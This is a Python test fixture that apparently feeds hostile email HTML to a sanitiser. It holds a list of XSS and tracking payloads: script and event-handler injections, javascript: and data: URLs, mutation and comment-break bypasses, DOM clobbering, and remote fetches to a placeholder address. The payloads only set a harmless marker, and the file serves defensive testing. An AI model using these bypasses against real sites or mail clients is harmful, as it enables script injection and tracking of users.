"""Hostile HTML as a mail may bring it. Each piece would run a script, fetch something, post something or leave its frame, if it were let.

`{b}` is an address that a fetch would betray; `alert(1)`-like calls set `window.ran`.
"""

from __future__ import annotations

HOSTILE = [
    "<script>parent.ran=window.ran=1</script>",
    "<script src='{b}/s.js'></script>",
    "<scr<script>ipt>window.ran=1</scr</script>ipt>",
    "<img src=x onerror='parent.ran=window.ran=1'>",
    "<img src='{b}/pixel.gif' width=1 height=1>",
    "<img srcset='{b}/a.png 1x, {b}/b.png 2x'>",
    "<picture><source srcset='{b}/p.webp'><img src='{b}/p.png'></picture>",
    "<svg onload='window.ran=1'></svg>",
    "<svg><script>window.ran=1</script></svg>",
    "<svg><image href='{b}/i.png' xlink:href='{b}/i2.png'/></svg>",
    "<svg><use href='{b}/u.svg#a'/></svg>",
    "<svg><animate onbegin='window.ran=1' attributeName='x' dur='1s'></svg>",
    "<svg><foreignObject><iframe src='{b}/fo'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror='window.ran=1'>",
    "<math><mi xlink:href='javascript:window.ran=1'>x</mi></math>",
    "<iframe src='{b}/f'></iframe>",
    "<iframe srcdoc='<script>parent.parent.ran=1</script>'></iframe>",
    "<object data='{b}/o.swf'></object>",
    "<embed src='{b}/e.swf'>",
    "<applet code='{b}/a.class'></applet>",
    "<link rel=stylesheet href='{b}/l.css'>",
    "<link rel=prefetch href='{b}/pre'>",
    "<link rel=dns-prefetch href='{b}'>",
    "<style>@import '{b}/i.css'; body{{background:url({b}/bg.png)}}</style>",
    "<style>@font-face{{font-family:x;src:url({b}/f.woff)}} p{{font-family:x}}</style><p>x</p>",
    "<div style='background-image:url({b}/d.png)'>x</div>",
    "<div style=\"background:url(&quot;{b}/q.png&quot;)\">x</div>",
    "<p style='position:fixed;inset:0;z-index:9999'>über allem</p>",
    "<table background='{b}/t.png'><tr><td background='{b}/td.png'>x</td></tr></table>",
    "<body background='{b}/body.png' onload='window.ran=1'>x</body>",
    "<base href='{b}/'><a href='x'>x</a>",
    "<meta http-equiv=refresh content='0;url={b}/m'>",
    "<meta http-equiv=refresh content='0;url=javascript:window.ran=1'>",
    "<form action='{b}/form' method=post id=f><input name=p autofocus onfocus='window.ran=1'></form><button form=f>x</button>",
    "<input type=image src='{b}/in.png'>",
    "<video src='{b}/v.mp4' poster='{b}/v.png' autoplay onerror='window.ran=1'></video>",
    "<audio src='{b}/a.mp3' autoplay></audio>",
    "<a href='javascript:parent.ran=window.ran=1' autofocus>x</a>",
    "<a href='java\tscript:window.ran=1'>x</a>",
    "<a href='&#106;avascript:window.ran=1'>x</a>",
    "<a href='data:text/html,<script>window.ran=1</script>'>x</a>",
    "<a href='vbscript:x' ping='{b}/ping'>x</a>",
    "<details open ontoggle='window.ran=1'>x</details>",
    "<marquee onstart='window.ran=1'>x</marquee>",
    "<select autofocus onfocus='window.ran=1'><option>x</select>",
    "<template shadowrootmode=open><img src=x onerror='window.ran=1'></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'></noscript>",
    "<!--<img src='--><img src=x onerror=window.ran=1>'-->",
    "<![CDATA[<img src=x onerror='window.ran=1'>]]>",
    "<xss onclick='window.ran=1' tabindex=1 onfocus='window.ran=1' autofocus>x</xss>",
    "<p id='conversation' name='forms'>x</p><a id=location name=location href='{b}'>x</a>",
    "</div></body></html><script>window.ran=1</script>",
    "</iframe><script>parent.ran=window.ran=1</script>",
    "\" onload=\"window.ran=1\" x=\"",
    "<textarea></textarea><img src=x onerror='window.ran=1'></textarea>",
    "<p>{{{{ 7*7 }}}} {{% debug %}} {{% load static %}}</p>",
]


def hostile(address: str) -> list[str]:
    """The pieces, with the address that would betray a fetch."""
    return [piece.format(b=address) for piece in HOSTILE]
